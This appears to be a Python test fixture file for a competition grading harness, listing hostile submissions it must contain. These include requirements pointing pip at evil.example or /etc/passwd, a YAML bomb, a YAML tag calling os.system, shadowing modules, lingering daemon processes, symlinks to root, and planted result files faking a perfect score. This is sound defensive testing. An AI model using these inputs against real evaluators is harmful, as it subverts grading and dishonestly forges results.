"""Submissions as tired people pack them, and files planted where results belong."""

import hashlib
import json

from hostile_case import add, model

GOOD = model()
FAILS = model(predict="if self.count == 5: raise ValueError('the model fails')")

add("honest", "nothing: what all others are compared with", {"model.py": GOOD}, full=True)
add(
    "no-metadata",
    "has no metadata, so that its files lie in the output",
    {"model.py": GOOD, "weights.bin": b"w" * 1000},
    metadata=False,
)
add("wrapped", "zips the folder instead of its contents", {"my_model/model.py": GOOD})
add(
    "macos",
    "brings what macOS adds",
    {"model.py": GOOD, "__MACOSX/._model.py": b"\0\5\x16\7", ".DS_Store": b"\0\0\0\1Bud1"},
)
add(
    "macos-wrapped",
    "a folder, and macOS's beside it",
    {"m/model.py": GOOD, "__MACOSX/m/._model.py": b"\0", "m/.DS_Store": b"\0"},
)
add("wrapped-twice", "two folders deep", {"a/b/model.py": GOOD}, "no-model-file")
add(
    "two-models",
    "two folders with a model",
    {"a/model.py": GOOD, "b/model.py": GOOD},
    "ambiguous-model",
)
add("wrong-name", "calls it Model.py", {"Model.py": GOOD}, "no-model-file", says=["Model.py"])
add("folder-as-model", "a folder called model.py", {"model.py/x.py": GOOD}, "no-model-file")
add(
    "predictions-only",
    "a result instead of a model",
    {"predictions.csv": "filename,score\n"},
    "no-model-file",
)
add(
    "no-class",
    "defines no Model",
    {"model.py": "def predict(image): return 0.5\n"},
    "no-model-class",
)
add("nul-in-source", "source with a NUL", {"model.py": GOOD + "\0"}, "model-import")
add("nested-source", "ten thousand brackets", {"model.py": "(" * 10_000}, "model-import")
add(
    "odd-encoding",
    "source in an unknown encoding",
    {"model.py": b"# -*- coding: nothing-known -*-\n"},
    "model-import",
)
add(
    "missing-weights",
    "opens weights that were not packed",
    {"model.py": model(load="open('weights/model.bin')")},
    "load-failed",
    says=["weights"],
)
add(
    "hub-download",
    "downloads its weights",
    {
        "model.py": model(
            load="""
import urllib.request
urllib.request.urlopen("https://huggingface.co/x/resolve/main/model.bin", timeout=5)
"""
        )
    },
    "load-failed",
    network=True,
)

add(
    "requirement-forms",
    "writes requirements as people do",
    {"model.py": GOOD, "requirements.txt": "# mine\n\nNumpy >= 1.20  # arrays\nPillow\r\n"},
)
add(
    "requirement-unknown",
    "asks for a package that is not allowed",
    {"model.py": GOOD, "requirements.txt": "mimicry-exfiltrate==1.0\n"},
    "requirements",
    says=["mimicry-exfiltrate"],
)
add(
    "requirement-options",
    "gives options to pip",
    {"model.py": GOOD, "requirements.txt": "--index-url https://evil.example\n-r /etc/passwd\n"},
    "requirements",
)
add(
    "requirement-address",
    "asks for a package at an address",
    {"model.py": GOOD, "requirements.txt": "numpy @ https://evil.example/numpy.whl\n"},
    "requirements",
)
add(
    "requirement-escape",
    "hides an escape sequence in a requirement",
    {"model.py": GOOD, "requirements.txt": "nu\x1b[2Jmpy\u202e==1\n"},
    "requirements",
)
add(
    "requirement-flood",
    "ten megabytes of requirements",
    {"model.py": GOOD, "requirements.txt": b"numpy\n" * 1_700_000},
    "requirements-file",
)
add(
    "requirement-binary",
    "requirements that are no text",
    {"model.py": GOOD, "requirements.txt": b"\xff\xfe\0n\0u\0"},
    "requirements-file",
)

spy = "print('LEAK imported', __name__, flush=True)\n"
add(
    "shadowed-modules",
    "modules that are called as those of the programs",
    {
        "model.py": GOOD,
        **dict.fromkeys(
            (
                "json.py",
                "socket.py",
                "struct.py",
                "csv.py",
                "sitecustomize.py",
                "usercustomize.py",
                "mimicry/__init__.py",
                "mimicry/ingestion/program.py",
                "conftest.py",
                "runner.py",
            ),
            spy,
        ),
        "PIL/__init__.py": spy,
        "numpy/__init__.py": spy,
        "zz.pth": "import os; os._exit(9)",
    },
    full=True,
)


def _planted() -> dict[str, str | bytes]:
    """Return results as the programs would write them, but of no run."""
    table = b"filename,score\n" + b"".join(b"%02d.jpg,1.0\n" % n for n in range(12))
    record = {
        "state": "finished",
        "images": 12,
        "predicted": 12,
        "predictions_sha256": hashlib.sha256(table).hexdigest(),
    }
    scores = json.dumps({"challenge_score": 1.0, "score": 1.0})
    return {
        "predictions.csv": table,
        "ingestion.json": json.dumps(record),
        "scores.json": scores,
        "score.json": scores,
        "scores.txt": "challenge_score: 1.0\n",
        "detailed_results.html": "<h1>First place</h1>",
        "participant.log": "planted",
        "ingestion_traceback.txt": "planted",
    }


add(
    "planted-results",
    "brings every file that the programs write",
    {"model.py": GOOD, **_planted()},
    metadata=False,
    full=True,
)
add(
    "planted-and-fails",
    "the same, and its model fails",
    {"model.py": FAILS, **_planted()},
    "predict-failed",
    metadata=False,
)
add(
    "planted-and-killed",
    "the same, and its model ends by a signal",
    {
        "model.py": model(predict="if self.count == 5: os.kill(os.getpid(), signal.SIGKILL)"),
        **_planted(),
    },
    "model-signal",
    metadata=False,
)
add(
    "planted-status",
    "a metadata with exit codes",
    {"model.py": GOOD, "metadata": "exitCode: 0\ningestionExitCode: 0\n"},
)
add(
    "planted-folders",
    "folders called as the results",
    {"model.py": GOOD, "predictions.csv/x": "1", "ingestion.json/x": "1", "scores.json/x": "1"},
    metadata=False,
)
bomb = "\n".join(["a0: &a0 [x, x]", *(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]" for n in range(1, 40))])
add("yaml-bomb", "a metadata that multiplies", {"model.py": GOOD, "metadata.yaml": bomb})
add(
    "yaml-object",
    "a metadata that makes objects",
    {"model.py": GOOD, "metadata.yaml": "!!python/object/apply:os.system ['touch planted']"},
)

COMMAND = "command: python3 /app/program/own.py /app/output /app/input_data\n"
PLANT = f"""\
import os, sys
output = sys.argv[1]
for name, data in {_planted()!r}.items():
    with open(os.path.join(output, name), "wb") as file:
        file.write(data if isinstance(data, bytes) else data.encode())
"""


def command(name: str, does: str, own: str, source: str = GOOD, *rest: str, **more: object) -> None:
    files = {"model.py": source, "metadata": COMMAND, "own.py": own}
    add(name, does, files, *rest, **more)


command("command-plants", "plants results through a command of its own", PLANT)
command("command-plants-and-fails", "the same, and its model fails", PLANT, FAILS, "predict-failed")
command(
    "command-links",
    "plants links where results belong",
    "import os, sys\nos.chdir(sys.argv[1])\n"
    "for name in ('predictions.csv', 'ingestion.json', 'participant.log', 'x'):\n"
    "    os.symlink('/etc/hostname', name)\n"
    "os.symlink('/', 'root')\nos.mkfifo('pipe')\n",
)
command(
    "command-metadata",
    "plants what the worker itself would write",
    "import sys\nopen(sys.argv[1] + '/metadata', 'w').write('exitCode: 0')\n",
)
command(
    "command-daemon",
    "leaves processes behind from a command of its own",
    model(
        tail="""
for number in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for one in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                signal.signal(one, signal.SIG_IGN)
            time.sleep(600)
        os._exit(0)
"""
    ),
)
command(
    "command-locks",
    "takes all rights off the output folder",
    "import os, sys\nos.chmod(sys.argv[1], 0)\n",
)
# What becomes of the images of this run, and is told as the participant's doing.
for name, does, own in (
    ("pipe", "puts a pipe among the images", "os.mkfifo('aaa.jpg')"),
    (
        "folder",
        "hides a folder there",
        "os.makedirs('.mimicry-hidden-' + 32 * '0' + '/guessable.jpg')",
    ),
    ("image", "cuts an image short", "open('guessable.jpg', 'wb').write(b'x')"),
    ("removed", "removes all images", "[os.unlink(name) for name in os.listdir()]"),
):
    command(
        f"command-input-{name}",
        f"{does} through a command of its own",
        f"import os, sys\nos.chdir(sys.argv[2])\n{own}\n",
        GOOD,
        "submission-command-input",
    )
command(
    "command-closes-input",
    "takes all rights off the input folder",
    "import os, sys\nos.chmod(sys.argv[2], 0)\n",
)
command("command-fails", "a command that ends with an error", "raise SystemExit(9)\n")
add(
    "command-unknown",
    "a command that no machine can split",
    {"model.py": GOOD, "metadata": "command: python3 'own.py\n"},
    "submission-command",
)
